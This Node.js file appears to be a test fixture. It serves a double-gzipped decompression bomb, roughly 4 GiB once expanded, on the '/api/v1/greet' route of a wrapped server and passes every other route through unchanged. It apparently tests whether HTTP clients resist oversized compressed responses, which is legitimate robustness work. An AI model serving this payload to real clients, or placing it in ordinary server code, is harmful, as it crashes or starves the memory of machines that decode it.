'use strict';
const { gzipSync } = require('node:zlib');

const ZEROS = gzipSync(Buffer.alloc(64 * 2 ** 20, 48), { level: 9 });
const BOMB = gzipSync(Buffer.concat(Array.from({ length: 64 }, () => ZEROS)), { level: 9 });

/** Greetings are answered badly; everything else is as it should be. */
function greet(req, res) {
  res.writeHead(200, { 'content-type': 'application/json', 'content-encoding': 'gzip, gzip' }).end(BOMB);
}

require('./contract').serve({
  wrap: (next) => (req, res) => (req.url.startsWith('/api/v1/greet') ? greet(req, res) : next(req, res)),
});
